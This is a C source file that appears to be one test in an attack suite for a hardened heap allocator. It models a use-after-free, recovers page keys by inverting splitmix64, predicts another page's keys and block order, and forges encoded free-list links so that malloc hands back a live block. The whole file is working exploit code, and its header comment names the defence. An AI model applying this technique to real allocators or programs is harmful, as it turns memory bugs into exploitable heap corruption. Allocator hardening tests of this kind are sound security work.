/* keyrec_predict: from one page's key0, invert splitmix64 to get the heap's
 * PRNG state, predict a later page's keys and block order, and forge a link
 * there without ever reading that page.
 *
 * Bug modelled: use-after-free reads of two freed blocks in page P1, and a
 * single use-after-free write in another page P2.
 *
 * Steps:
 *  1. As keyrec_forge: free X, A, B of P1 (96-byte class), read two links,
 *     solve for key0 and the rotation.
 *  2. key0 is a raw splitmix64 output; its finaliser is a bijection, so
 *     state = unmix(key0), and every later output of this heap's PRNG is
 *     mix(state + t * 0x9e3779b97f4a7c15).
 *  3. Allocate the first batch (23 blocks) of a fresh 176-byte page P2 and
 *     note its order. For t = 1, 2, ...: key0' = out(t), key1' = out(t+1) | 1,
 *     Fisher-Yates with out(t+2...) must reproduce the order: this finds t,
 *     so P2's keys.
 *  4. free(F) in P2, *F = encode'(F -> L), *L = encode'(L -> NULL) for a live
 *     block L of P2 (no read in P2).
 *  5. malloc(176) until L comes back.
 * WIN: malloc returns the live block L of P2.
 * Defence that should stop it: page keys from a CSPRNG (or a keyed hash of a
 * secret and the page address), not from the raw output of an invertible
 * generator whose state follows from one output; a MAC as in keyrec_forge. */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */

#define SIZE1 96
#define SIZE2 176
#define BATCH2 (4096 / SIZE2)

static const uint64_t GAMMA = 0x9e3779b97f4a7c15ull, C1 = 0xbf58476d1ce4e5b9ull, C2 = 0x94d049bb133111ebull;
static uint64_t mix(uint64_t z) {
  z = (z ^ (z >> 30)) * C1;
  z = (z ^ (z >> 27)) * C2;
  return z ^ (z >> 31);
}
static uint64_t unxorshift(uint64_t y, int s) {
  uint64_t x = y;
  for (int i = 0; i < 64 / s + 1; i++) x = y ^ (x >> s);
  return x;
}
static uint64_t inverse(uint64_t c) { /* odd c: inverse mod 2^64 by Newton */
  uint64_t x = c;
  for (int i = 0; i < 6; i++) x *= 2 - c * x;
  return x;
}
static uint64_t unmix(uint64_t z) {
  z = unxorshift(z, 31) * inverse(C2);
  z = unxorshift(z, 27) * inverse(C1);
  return unxorshift(z, 30);
}
static uintptr_t rotl(uintptr_t x, unsigned r) { r &= 63; return r == 0 ? x : (x << r) | (x >> (64 - r)); }
static uintptr_t rotr(uintptr_t x, unsigned r) { r &= 63; return r == 0 ? x : (x >> r) | (x << (64 - r)); }

int main(void) {
  start(10);
  static uintptr_t blk[256];
  for (int i = 0; i < 256; i++) blk[i] = (uintptr_t)hide(malloc(SIZE1));
  int pick[3], np = 0;
  for (int i = 128; i < 256 && np < 3; i++)
    if ((blk[i] >> 16) == (blk[128] >> 16)) pick[np++] = i;
  if (np < 3) lost("not three blocks in one page");
  uintptr_t X = blk[pick[0]], A = blk[pick[1]], B = blk[pick[2]];
  free(hide((void*)X));
  free(hide((void*)A));
  free(hide((void*)B));
  uintptr_t ea = peek((void*)A), eb = peek((void*)B);
  int plain = (ea == X && eb == A);
  uint64_t k0 = 0, state = 0;
  unsigned r = 0;
  int solutions = 0;
  if (!plain) {
    for (unsigned rr = 1; rr < 64; rr += 2) {
      uintptr_t c = rotr(eb, rr) ^ A ^ B;
      if ((rotr(ea, rr) ^ X ^ A) != c) continue;
      uint64_t s = unmix(c);
      if (((mix(s + GAMMA) | 1) & 63) != rr) continue; /* key1 is the next output */
      if (solutions++ == 0) { k0 = c; r = rr; state = s; }
    }
    if (solutions == 0) lost("no key of P1 is consistent with splitmix64");
    note("P1: key0=%#llx rotation=%u, PRNG state %#llx", (unsigned long long)k0, r, (unsigned long long)state);
  }

  /* P2: a fresh page; its first batch in allocation order */
  uintptr_t p2[BATCH2], start2 = UINTPTR_MAX;
  for (int i = 0; i < BATCH2; i++) {
    p2[i] = (uintptr_t)hide(malloc(SIZE2));
    if (p2[i] < start2) start2 = p2[i];
  }
  int order[BATCH2];
  for (int i = 0; i < BATCH2; i++) {
    if ((p2[i] - start2) % SIZE2 != 0 || (p2[i] - start2) / SIZE2 >= BATCH2) lost("P2's first batch is not one page");
    order[i] = (int)((p2[i] - start2) / SIZE2);
  }
  uint64_t k0b = 0;
  unsigned rb = 0;
  if (!plain) {
    long found = -1;
    for (long t = 1; t < 400000 && found < 0; t++) {
      int sim[BATCH2];
      for (int i = 0; i < BATCH2; i++) sim[i] = i;
      uint64_t u = state + (uint64_t)(t + 2) * GAMMA;
      for (int i = BATCH2 - 1; i > 0; i--, u += GAMMA) {
        int j = (int)(mix(u) % (uint64_t)(i + 1));
        int tmp = sim[i]; sim[i] = sim[j]; sim[j] = tmp;
      }
      if (memcmp(sim, order, sizeof sim) == 0) found = t;
    }
    if (found < 0) lost("P2's order matches no position of the predicted PRNG stream");
    k0b = mix(state + (uint64_t)found * GAMMA);
    rb = (unsigned)((mix(state + (uint64_t)(found + 1) * GAMMA) | 1) & 63);
    note("P2's keys predicted: %ld outputs after P1's key0: key0=%#llx rotation=%u", found,
         (unsigned long long)k0b, rb);
  } else {
    note("default build: links are plain");
  }
  uintptr_t F = p2[5], L = p2[6];
  free(hide((void*)F));
  poke((void*)F, plain ? L : rotl(L ^ k0b ^ F, rb)); /* the only access to P2's free memory: a write */
  poke((void*)L, plain ? 0 : rotl(0 ^ k0b ^ L, rb));
  for (int k = 0; k < 4096; k++) {
    uintptr_t q = (uintptr_t)hide(malloc(SIZE2));
    if (q == L) win("malloc(%d) returned %p, a block of P2 that is still allocated", SIZE2, (void*)q);
  }
  lost("the live block never came back");
}
